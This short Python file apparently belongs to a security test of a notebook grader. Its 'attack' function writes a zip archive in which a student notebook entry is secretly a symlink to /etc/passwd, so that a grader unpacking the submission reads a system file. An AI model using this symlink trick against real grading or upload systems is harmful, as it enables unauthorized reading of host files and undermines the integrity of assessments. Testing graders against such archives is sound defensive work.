"""A member of the archive is a link to a file of the grader's."""
import zipfile

def attack(path, notebook):
    with zipfile.ZipFile(path, "w") as archive:
        member = zipfile.ZipInfo("student66.ipynb")
        member.external_attr = 0o120777 << 16
        archive.writestr(member, "/etc/passwd")
